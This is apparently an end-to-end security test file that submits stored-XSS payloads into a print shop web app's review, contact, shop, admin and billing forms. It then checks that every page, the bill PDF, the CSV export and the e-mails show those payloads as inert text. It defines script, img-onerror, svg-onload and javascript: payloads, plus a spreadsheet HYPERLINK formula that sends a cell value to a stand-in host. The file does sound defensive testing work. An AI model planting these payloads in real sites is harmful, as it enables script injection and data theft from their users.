import { randomUUID } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { getDocument, VerbosityLevel } from "pdfjs-dist/legacy/build/pdf.mjs";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openApp } from "../helpers/e2e-app";
import {
  createUser,
  plantSession,
  sessionCookieFor,
  waitForHydration,
  type SessionCookie,
  type TestPage,
} from "./harness";

/**
 * Stored XSS: script, event-handler, SVG, javascript: and template payloads (with Tamil text)
 * typed into every form that stores text — a review, a contact message, feedback, an order
 * request, a LimraKart order, a bill, a service, a gallery item and a product, a godown item,
 * an income/expense record, a staff member's name — then every page that shows them is opened in
 * Chromium: the text must be shown as text (never markup), nothing may run (`window.__xss`, a
 * dialog, a Content-Security-Policy violation), and the bill PDF, the transactions CSV and the
 * e-mails about these records must carry it as text too.
 */

// ---------------------------------------------------------------------------------------------
// Payloads

const SCRIPT = "<script>window.__xss=1</script>";
const IMG = `"><img src=x onerror="window.__xss=1">`;
const SVG = "<svg onload=window.__xss=1>";
const JS_URL = "javascript:window.__xss=1";
const TEMPLATE = "{{7*7}}";
const TAMIL = "வணக்கம் தமிழ்";
/** Everything at once, for the long text fields. */
const ALL = `${TAMIL} ${SCRIPT} ${IMG} ${SVG} ${JS_URL} ${TEMPLATE}`;

/** Markup that must never reach a page's HTML as markup (escaped, it reads &lt;script&gt;…). */
const RAW_MARKUP = [
  /<script>window\.__xss/i,
  /<img src=x onerror/i,
  /<svg onload/i,
  /\b(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:/i,
];

/** The values typed into the forms (what each page must show as text). */
const T = {
  staffName: `Staff ${IMG}`,
  review: {
    name: `${TAMIL} ${SCRIPT}`,
    company: `${IMG} Co`,
    location: `${SVG} ${TEMPLATE}`,
    reviewText: `Great work ${ALL}`,
  },
  contact: {
    name: `${SVG} தமிழ்`,
    subject: `${SCRIPT} ${TEMPLATE}`,
    message: `Hello ${ALL}`,
  },
  feedback: { name: `${IMG} பெயர்`, feedback: `Feedback ${ALL}` },
  order: { name: `${SCRIPT} ஆர்டர்`, quantity: `${SVG} 500`, message: `Please ${ALL}` },
  product: {
    name: `${TAMIL} ${SCRIPT} window.__xss product`,
    shortDescription: `${IMG} ${TEMPLATE}`,
    description: `Product ${ALL}`,
  },
  checkout: { name: `${SCRIPT} வாங்குபவர்`, address: `${IMG} ${SVG} ${TAMIL} Street` },
  service: {
    name: `${SCRIPT} சேவை`,
    description: `Service ${ALL}`,
    feature: `${IMG} feature`,
    turnaround: `${TEMPLATE} days`,
  },
  gallery: { title: `${SVG} படம் ${TEMPLATE}`, description: `Gallery ${ALL}` },
  bill: {
    customerName: `${TAMIL} ${SCRIPT} ${TEMPLATE}`,
    customerAddress: `${IMG} ${SVG} Road`,
    particulars: `Cards ${ALL}`,
  },
  godown: {
    itemName: `Ink ${SCRIPT} மை`,
    category: `${IMG}`,
    location: `${SVG} ${JS_URL}`,
    supplier: `${TEMPLATE} ${TAMIL}`,
  },
  expense: { category: `${SVG} செலவு`, description: `Expense ${ALL}` },
  /** A cell a spreadsheet would run as a formula. */
  formula: `=HYPERLINK("http://evil.test/?"&A1,"${TAMIL}")`,
};

// ---------------------------------------------------------------------------------------------
// The app, the browser and the people

const { app, newVisitorPage } = await openApp({
  env: { BUSINESS_NOTIFY_EMAIL: "owner@limra.test" },
});
const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: "#2a6f97" } })
  .png()
  .toBuffer();
type Role = "admin" | "staff" | "customer";
const sessionCookies = {} as Record<Role, SessionCookie>;
/** Cookie headers of the signed-in people. */
const cookies = {} as Record<Role, string>;
const sessions: Partial<Record<Role | "visitor", Session>> = {};

/** What the test learnt while storing the payloads: ids and numbers of the records. */
const ids = {
  review: "",
  contact: "",
  feedback: "",
  orderRequest: "",
  product: "",
  service: "",
  orderNumber: "",
  order: "",
  bill: "",
  godown: "",
  expenseTransaction: "",
};

type Session = TestPage & { dialogs: string[] };

async function session(role: Role | "visitor"): Promise<Session> {
  const existing = sessions[role];
  if (existing) return existing;
  const tp = await newVisitorPage();
  if (role !== "visitor") await plantSession(tp.context, sessionCookies[role]);
  // Every Content-Security-Policy violation the page reports, and every dialog it opens.
  await tp.context.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      w.__cspViolations.push(
        `${e.violatedDirective} ${e.blockedURI} ${e.sample} at ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`,
      );
    });
  });
  const dialogs: string[] = [];
  tp.page.on("dialog", (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const s = { ...tp, dialogs };
  sessions[role] = s;
  return s;
}

beforeAll(async () => {
  const people = {
    admin: await createUser("admin"),
    staff: await createUser("staff", { name: T.staffName }),
    customer: await createUser("customer", { name: "Kavitha Shopper" }),
  };
  for (const role of ["admin", "staff", "customer"] as const) {
    sessionCookies[role] = await sessionCookieFor(people[role].id);
    cookies[role] = sessionCookies[role].header;
  }
});

afterAll(async () => {
  for (const s of Object.values(sessions)) await s.close();
});

/** The app's database (opened by the user helpers with the server's settings). */
async function db() {
  const { getDb } = await import("../../app/platform/db/db.server");
  return getDb();
}

/** A form POST as the app's own page sends it (Origin, a form content type), not followed. */
async function post(
  url: string,
  body: Record<string, string> | FormData,
  who?: Role,
): Promise<Response> {
  const headers: Record<string, string> = { Origin: app.baseUrl };
  if (who) headers.Cookie = cookies[who];
  let payload: BodyInit;
  if (body instanceof FormData) payload = body;
  else {
    headers["Content-Type"] = "application/x-www-form-urlencoded";
    payload = new URLSearchParams(body).toString();
  }
  const res = await fetch(`${app.baseUrl}${url}`, {
    method: "POST",
    headers,
    body: payload,
    redirect: "manual",
  });
  await res.arrayBuffer();
  return res;
}

/** A POST that must succeed with a redirect; gives the redirect's target. */
async function postOk(url: string, body: Record<string, string> | FormData, who?: Role) {
  const res = await post(url, body, who);
  expect(res.status, `POST ${url}\n${app.logs().slice(-2000)}`).toBe(302);
  return res.headers.get("Location") ?? "";
}

function multipart(
  fields: Record<string, string>,
  file?: { name: string; type: string; data: Buffer },
) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.set(k, v);
  if (file)
    form.set(
      file.name.endsWith(".pdf") ? "files" : "image",
      new Blob([new Uint8Array(file.data)], { type: file.type }),
      file.name,
    );
  return form;
}

const PDF_FILE = Buffer.from(
  "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" +
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj\n" +
    "trailer<</Root 1 0 R>>\n%%EOF\n",
);

// ---------------------------------------------------------------------------------------------
// Checking a page

/**
 * Opens `url` and checks that each text is on the page as text, that its HTML holds none of the
 * payloads as markup, and that nothing ran: no window.__xss, no dialog, no CSP violation, no
 * console error, no element with an inline handler or a javascript: link.
 */
async function expectInert(s: Session, url: string, texts: string[], then?: () => Promise<void>) {
  const response = await s.page.goto(url);
  expect(response?.status(), url).toBeLessThan(400);
  const html = await response!.text();
  await waitForHydration(s.page);
  if (then) await then();
  for (const text of texts) {
    // The page's text, and the attribute values people read (alt, title, labels, input values).
    const shown = await s.page
      .waitForFunction(
        (t) => {
          const parts = [document.body.textContent ?? ""];
          for (const el of document.querySelectorAll("*")) {
            for (const a of ["alt", "title", "aria-label", "placeholder"]) {
              const v = el.getAttribute(a);
              if (v) parts.push(v);
            }
            if (el instanceof HTMLInputElement || el instanceof HTMLTextAreaElement) {
              parts.push(el.value);
            }
          }
          return parts.join("\n").includes(t);
        },
        text,
        { timeout: 5_000 },
      )
      .then(() => true)
      .catch(() => false);
    expect(shown, `${url} shows ${JSON.stringify(text)} as text`).toBe(true);
  }
  for (const bad of RAW_MARKUP) expect(html, `${url}: ${bad}`).not.toMatch(bad);
  await s.page.waitForLoadState("load");
  const state = await s.page.evaluate(() => {
    const w = window as unknown as { __xss?: unknown; __cspViolations?: string[] };
    const jsUrl = /^\s*javascript:/i;
    return {
      xss: w.__xss,
      csp: w.__cspViolations ?? [],
      handlers: [...document.querySelectorAll("*")]
        .filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name)))
        .map((el) => el.outerHTML.slice(0, 120)),
      jsLinks: [...document.querySelectorAll("[href], [src], [action], [formaction]")]
        .filter((el) =>
          ["href", "src", "action", "formaction"].some((a) => jsUrl.test(el.getAttribute(a) ?? "")),
        )
        .map((el) => el.outerHTML.slice(0, 120)),
      injected: document.querySelectorAll('img[src="x"], svg[onload]').length,
    };
  });
  expect(state.xss, `${url}: window.__xss`).toBeUndefined();
  // Not even zod's eval probe: in the browser it runs jitless (app/lib/zod.ts).
  expect(state.csp, `${url}: CSP violations`).toEqual([]);
  expect(state.handlers, `${url}: inline event handlers`).toEqual([]);
  expect(state.jsLinks, `${url}: javascript: links`).toEqual([]);
  expect(state.injected, `${url}: injected elements`).toBe(0);
  expect(s.dialogs, `${url}: dialogs`).toEqual([]);
  s.expectNoErrors();
}

// ---------------------------------------------------------------------------------------------

/**
 * Types every payload into every form, through the real server. Each test needs them, and may
 * run alone or in any order: the first to ask stores them (payloadsStored), once.
 */
async function storePayloads() {
  const d = await db();

  // The public forms: a review, a contact message, feedback, an order request with a file.
  await postOk("/reviews", {
    name: T.review.name,
    company: T.review.company,
    location: T.review.location,
    rating: "5",
    reviewText: T.review.reviewText,
    projectType: "Flyers",
  });
  await postOk("/contact", {
    name: T.contact.name,
    email: "contact@example.test",
    phone: "",
    subject: T.contact.subject,
    message: T.contact.message,
  });
  await postOk("/share-experience", {
    name: T.feedback.name,
    email: "feedback@example.test",
    phone: "",
    rating: "4",
    service: "Brochures",
    feedback: T.feedback.feedback,
    wouldRecommend: "on",
  });
  await postOk(
    "/place-order",
    multipart(
      {
        name: T.order.name,
        phone: "9876543210",
        email: "order@example.test",
        service: "Posters",
        quantity: T.order.quantity,
        message: T.order.message,
      },
      { name: `${SVG}.pdf`, type: "application/pdf", data: PDF_FILE },
    ),
  );
  const one = async (
    table:
      "customer_reviews" | "contact_submissions" | "customer_experiences" | "order_submissions",
    name: string,
  ) =>
    (await d.selectFrom(table).select("id").where("name", "=", name).executeTakeFirstOrThrow()).id;
  ids.review = await one("customer_reviews", T.review.name);
  ids.contact = await one("contact_submissions", T.contact.name);
  ids.feedback = await one("customer_experiences", T.feedback.name);
  ids.orderRequest = await one("order_submissions", T.order.name);

  // The admin approves the review, so it is public.
  await postOk(`/admin/inbox/reviews/${ids.review}`, { intent: "approve" }, "admin");

  // The admin's catalog: a service, a gallery item (first in their lists) and a product.
  await postOk(
    "/admin",
    multipart({
      intent: "service-save",
      name: T.service.name,
      description: T.service.description,
      features: `${T.service.feature}\n${SCRIPT}`,
      turnaround: T.service.turnaround,
      price: "150",
      sortOrder: "-1",
      active: "on",
    }),
    "admin",
  );
  await postOk(
    "/admin",
    multipart(
      {
        intent: "gallery-save",
        title: T.gallery.title,
        description: T.gallery.description,
        category: "banners",
        tags: `${SCRIPT}, ${TEMPLATE}`,
        sortOrder: "-1",
        active: "on",
      },
      { name: "banner.png", type: "image/png", data: png },
    ),
    "admin",
  );
  const category = await d
    .selectFrom("product_categories")
    .select("id")
    .where("is_active", "=", 1)
    .orderBy("sort_order")
    .executeTakeFirstOrThrow();
  // Its redirectTo is a javascript: URL: the save goes back to the store admin instead.
  const back = await postOk(
    "/limrakart/admin",
    multipart({
      intent: "product-save",
      name: T.product.name,
      shortDescription: T.product.shortDescription,
      description: T.product.description,
      price: "99",
      stock: "20",
      categoryId: category.id,
      active: "on",
      weight: TEMPLATE,
      redirectTo: JS_URL,
    }),
    "admin",
  );
  expect(back).toBe("/limrakart/admin");
  ids.service = (
    await d
      .selectFrom("services")
      .select("id")
      .where("name", "=", T.service.name)
      .executeTakeFirstOrThrow()
  ).id;
  ids.product = (
    await d
      .selectFrom("products")
      .select("id")
      .where("name", "=", T.product.name)
      .executeTakeFirstOrThrow()
  ).id;

  // The customer buys the product.
  await postOk(
    "/limrakart/cart",
    { intent: "add", productId: ids.product, quantity: "1" },
    "customer",
  );
  const confirmation = await postOk(
    "/limrakart/checkout",
    {
      name: T.checkout.name,
      phone: "9876543210",
      email: "shopper@example.test",
      address: T.checkout.address,
      pinCode: "627001",
      token: randomUUID(),
    },
    "customer",
  );
  ids.orderNumber = new URL(confirmation, app.baseUrl).searchParams.get("order") ?? "";
  expect(ids.orderNumber).toMatch(/^LK\d+$/);
  ids.order = (
    await d
      .selectFrom("orders")
      .select("id")
      .where("order_number", "=", ids.orderNumber)
      .executeTakeFirstOrThrow()
  ).id;

  // Billing: a bill, a godown item at its minimum (a low-stock alert), income and expenses.
  const preview = await postOk(
    "/billing/new-complaint",
    {
      customerName: T.bill.customerName,
      customerPhone: "9876543210",
      customerAddress: T.bill.customerAddress,
      particulars: T.bill.particulars,
      amount: "500",
      discount: "",
      advance: "100",
      received: "",
    },
    "staff",
  );
  ids.bill = new URL(preview, app.baseUrl).searchParams.get("id") ?? "";
  expect(ids.bill).not.toBe("");
  await postOk(
    "/billing/godown",
    {
      intent: "add",
      itemName: T.godown.itemName,
      category: T.godown.category,
      quantity: "2",
      minimumStock: "5",
      unitPrice: "12.50",
      location: T.godown.location,
      supplier: T.godown.supplier,
    },
    "staff",
  );
  ids.godown = (
    await d
      .selectFrom("godown_items")
      .select("id")
      .where("item_name", "=", T.godown.itemName)
      .executeTakeFirstOrThrow()
  ).id;
  await postOk(
    "/billing/income-expenses",
    {
      intent: "add",
      type: "expense",
      category: T.expense.category,
      description: T.expense.description,
      amount: "75",
      billNumber: "",
    },
    "staff",
  );
  await postOk(
    "/billing/income-expenses",
    { intent: "add", type: "income", category: "Sales", description: T.formula, amount: "10" },
    "staff",
  );
  ids.expenseTransaction = (
    await d
      .selectFrom("transactions")
      .select("id")
      .where("description", "=", T.expense.description)
      .executeTakeFirstOrThrow()
  ).id;
}

let stored: Promise<void> | undefined;
const payloadsStored = () => (stored ??= storePayloads());

describe("stored XSS payloads", () => {
  it("are accepted by every form that stores text (public, shop, admin and billing)", async () => {
    await payloadsStored();
  });

  it("show as text, and run nothing, on the public pages (home, services, gallery, reviews)", async () => {
    await payloadsStored();
    const s = await session("visitor");
    await expectInert(s, "/", [T.service.name, T.gallery.title]);
    await expectInert(s, "/services", [
      T.service.name,
      T.service.description,
      T.service.feature,
      SCRIPT,
      T.service.turnaround,
    ]);
    // The gallery's lightbox shows the title and description when an item is opened.
    await expectInert(s, "/gallery", [T.gallery.title, T.gallery.description], async () => {
      await s.page.getByTestId("gallery-item").first().click();
      await s.page.getByRole("dialog").waitFor();
    });
    await expectInert(s, "/reviews", [
      T.review.name,
      T.review.company,
      T.review.location,
      T.review.reviewText,
    ]);
  });

  it("show as text in the owner's inbox, its item pages, the catalog, the store admin and users", async () => {
    await payloadsStored();
    const s = await session("admin");
    await expectInert(s, "/admin/inbox?tab=reviews&filter=approved", [T.review.name]);
    await expectInert(s, `/admin/inbox/reviews/${ids.review}`, [
      T.review.name,
      T.review.company,
      T.review.location,
      T.review.reviewText,
    ]);
    await expectInert(s, "/admin/inbox?tab=contacts", [T.contact.name, T.contact.subject]);
    await expectInert(s, `/admin/inbox/contacts/${ids.contact}`, [
      T.contact.name,
      T.contact.subject,
      T.contact.message,
    ]);
    await expectInert(s, "/admin/inbox?tab=feedback", [T.feedback.name]);
    await expectInert(s, `/admin/inbox/feedback/${ids.feedback}`, [
      T.feedback.name,
      T.feedback.feedback,
    ]);
    await expectInert(s, "/admin/inbox?tab=orders", [T.order.name, T.order.quantity]);
    await expectInert(s, `/admin/inbox/orders/${ids.orderRequest}`, [
      T.order.name,
      T.order.quantity,
      T.order.message,
    ]);
    await expectInert(s, "/admin?tab=services", [T.service.name]);
    await expectInert(s, `/admin?tab=services&edit=${ids.service}`, [
      T.service.name,
      T.service.description,
      T.service.feature,
    ]);
    await expectInert(s, "/admin?tab=gallery", [T.gallery.title]);
    await expectInert(s, "/admin?tab=products", [T.product.name]);
    await expectInert(s, "/limrakart/admin", [T.product.name]);
    await expectInert(s, `/limrakart/admin?tab=products&edit=${ids.product}`, [
      T.product.name,
      T.product.shortDescription,
      T.product.description,
    ]);
    await expectInert(s, "/limrakart/admin?tab=orders", [T.checkout.name]);
    await expectInert(s, `/limrakart/admin?tab=orders&order=${ids.order}`, [
      T.checkout.name,
      T.checkout.address,
      T.product.name,
    ]);
    // A search reflects the typed text in the page (the staff member's name matches it).
    await expectInert(s, `/admin/users?q=${encodeURIComponent(IMG)}`, [T.staffName, IMG]);
  });

  it("show as text to the customer in the LimraKart store, its search and the orders", async () => {
    await payloadsStored();
    const s = await session("customer");
    await expectInert(s, `/limrakart?q=${encodeURIComponent("window.__xss product")}`, [
      T.product.name,
      T.product.shortDescription,
    ]);
    await expectInert(s, `/limrakart?q=${encodeURIComponent(ALL)}`, [ALL.slice(0, 80)]);
    await expectInert(s, "/limrakart/orders", [T.product.name]);
    await expectInert(s, `/limrakart/orders/${ids.orderNumber}`, [
      T.product.name,
      T.checkout.name,
      T.checkout.address,
    ]);
  });

  it("show as text on the billing pages (bills, godown, income & expenses, transactions, alerts)", async () => {
    await payloadsStored();
    const s = await session("staff");
    await expectInert(s, "/billing/old-complaint", [T.bill.customerName, T.bill.particulars]);
    await expectInert(s, `/billing/history?q=${encodeURIComponent(SCRIPT)}`, [
      T.bill.customerName,
      SCRIPT,
    ]);
    await expectInert(s, "/billing/old-pending", [T.bill.customerName]);
    await expectInert(s, `/billing/complaint-preview?id=${ids.bill}`, [
      T.bill.customerName,
      T.bill.customerAddress,
      T.bill.particulars,
    ]);
    await expectInert(s, `/billing/new-complaint?id=${ids.bill}`, [
      T.bill.customerName,
      T.bill.customerAddress,
      T.bill.particulars,
    ]);
    await expectInert(s, "/billing/godown", [
      T.godown.itemName,
      T.godown.category,
      T.godown.location,
    ]);
    await expectInert(s, `/billing/godown?edit=${ids.godown}`, [
      T.godown.itemName,
      T.godown.category,
      T.godown.location,
      T.godown.supplier,
    ]);
    await expectInert(s, "/billing/income-expenses?tab=expense", [
      T.expense.category,
      T.expense.description,
      T.staffName,
    ]);
    await expectInert(s, "/billing/transaction-history", [
      T.expense.category,
      T.expense.description,
      T.formula,
      T.staffName,
    ]);
    await expectInert(s, `/billing/transaction-history?view=${ids.expenseTransaction}`, [
      T.expense.category,
      T.expense.description,
    ]);
    await expectInert(s, "/billing/notifications", [
      `Low stock: ${T.godown.itemName}`,
      T.review.name,
      T.checkout.name,
    ]);
  });

  it("are printed literally in the bill PDF", async () => {
    await payloadsStored();
    const res = await fetch(`${app.baseUrl}/billing/complaint-preview/pdf?id=${ids.bill}`, {
      headers: { Cookie: cookies.staff },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("application/pdf");
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect(Buffer.from(bytes.subarray(0, 5)).toString("latin1")).toBe("%PDF-");
    const task = getDocument({ data: bytes, verbosity: VerbosityLevel.ERRORS });
    const doc = await task.promise;
    let text = "";
    for (let i = 1; i <= doc.numPages; i++) {
      const content = await (await doc.getPage(i)).getTextContent();
      text += content.items.map((item) => ("str" in item ? item.str : "")).join("") + "\n";
    }
    await task.destroy();
    // Lines may wrap anywhere: compare without white space. The ASCII payloads are exact text.
    const flat = text.replace(/\s+/g, "");
    for (const piece of [SCRIPT, IMG, SVG, JS_URL, TEMPLATE]) {
      expect(flat, piece).toContain(piece.replace(/\s+/g, ""));
    }
    expect(flat).not.toContain("&lt;");
  });

  it("are exported as CSV text: quoted where needed, a formula cell neutralised", async () => {
    await payloadsStored();
    const res = await fetch(`${app.baseUrl}/billing/transaction-history/export`, {
      headers: { Cookie: cookies.staff },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
    const rows = parseCsv(text.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][];
    const header = rows[0]!;
    const description = header.indexOf("Description");
    expect(description).toBeGreaterThan(0);
    const descriptions = rows.slice(1).map((r) => r[description]);
    // The payload is a plain text cell, exactly as typed (its quotes doubled inside quotes).
    expect(descriptions).toContain(T.expense.description);
    expect(text).toContain(`"${T.expense.description.replace(/"/g, '""')}"`);
    // The formula is kept as text: an apostrophe first, so a spreadsheet does not run it.
    expect(descriptions).toContain(`'${T.formula}`);
    expect(descriptions).not.toContain(T.formula);
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell, `CSV cell ${cell}`).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it("are escaped in the HTML of every e-mail about these records", async () => {
    await payloadsStored();
    const d = await db();
    // Order request, contact, feedback, and the LimraKart order's confirmation and notice.
    const outbox = await d
      .selectFrom("email_outbox")
      .select(["entity", "subject", "html_body", "text_body", "status"])
      .where("entity", "in", [
        "order_submission",
        "contact_submission",
        "customer_experience",
        "order",
      ])
      .execute();
    expect(outbox.map((m) => m.entity).sort()).toEqual([
      "contact_submission",
      "customer_experience",
      "order",
      "order",
      "order_submission",
    ]);
    for (const mail of outbox) {
      const html = mail.html_body ?? "";
      expect(html, mail.subject).toContain("&lt;script&gt;window.__xss=1&lt;/script&gt;");
      expectEscapedHtml(html, mail.subject);
      // The plain-text part is the text as typed.
      expect(mail.text_body, mail.subject).toContain(SCRIPT);
    }

    // The e-mails as sent (written to DATA_DIR/mail when SMTP_URL is empty): the HTML part too.
    const dir = path.join(app.dataDir, "mail");
    const deadline = Date.now() + 20_000;
    let files: string[];
    for (;;) {
      files = (() => {
        try {
          return readdirSync(dir).filter((f) => f.endsWith(".eml"));
        } catch {
          return [];
        }
      })();
      if (files.length >= outbox.length || Date.now() > deadline) break;
      await new Promise((r) => setTimeout(r, 200));
    }
    expect(files.length).toBeGreaterThanOrEqual(outbox.length);
    let withPayload = 0;
    for (const file of files) {
      const html = htmlPart(readFileSync(path.join(dir, file), "utf8"));
      expect(html, file).not.toBeNull();
      expectEscapedHtml(html!, file);
      if (html!.includes("&lt;script&gt;window.__xss=1&lt;/script&gt;")) withPayload++;
    }
    expect(withPayload).toBeGreaterThanOrEqual(outbox.length);
  });

  it("never turn a javascript: URL into a redirect or a link", async () => {
    await payloadsStored();
    // The product was saved with redirectTo=javascript:… above and went back to the store
    // admin; so does a category, and the sign-in page does not link one.
    const res = await post(
      "/limrakart/admin",
      multipart({ intent: "category-save", name: `${SCRIPT} வகை`, redirectTo: JS_URL }),
      "admin",
    );
    expect(res.status).toBe(302);
    expect(res.headers.get("Location")).not.toMatch(/javascript:/i);
    const s = await session("visitor");
    await expectInert(s, `/auth?redirectTo=${encodeURIComponent(JS_URL)}`, []);
  });
});

/** No payload markup: no script, img or svg tag, and no tag with an inline event handler. */
function expectEscapedHtml(html: string, label: string) {
  expect(html, label).not.toMatch(/<script/i);
  expect(html, label).not.toMatch(/<img/i);
  expect(html, label).not.toMatch(/<svg/i);
  expect(html, label).not.toMatch(/<[^>]*\son\w+\s*=/i);
  expect(html, label).not.toMatch(/\bhref\s*=\s*["']?\s*javascript:/i);
}

/** The decoded text/html part of a raw MIME message (quoted-printable or base64). */
function htmlPart(raw: string): string | null {
  const boundary = /boundary="?([^";\r\n]+)"?/i.exec(raw)?.[1];
  const parts = boundary ? raw.split(`--${boundary}`) : [raw];
  for (const part of parts) {
    const split = /\r?\n\r?\n/.exec(part);
    if (!split) continue;
    const headers = part.slice(0, split.index).replace(/\r?\n[ \t]+/g, " ");
    if (!/content-type:\s*text\/html/i.test(headers)) continue;
    const body = part.slice(split.index + split[0].length);
    const encoding = /content-transfer-encoding:\s*(\S+)/i.exec(headers)?.[1]?.toLowerCase();
    if (encoding === "base64")
      return Buffer.from(body.replace(/\s+/g, ""), "base64").toString("utf8");
    if (encoding === "quoted-printable") {
      const bytes = body
        .replace(/=\r?\n/g, "")
        .replace(/=([0-9A-F]{2})/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
      return Buffer.from(bytes, "latin1").toString("utf8");
    }
    return body;
  }
  return null;
}
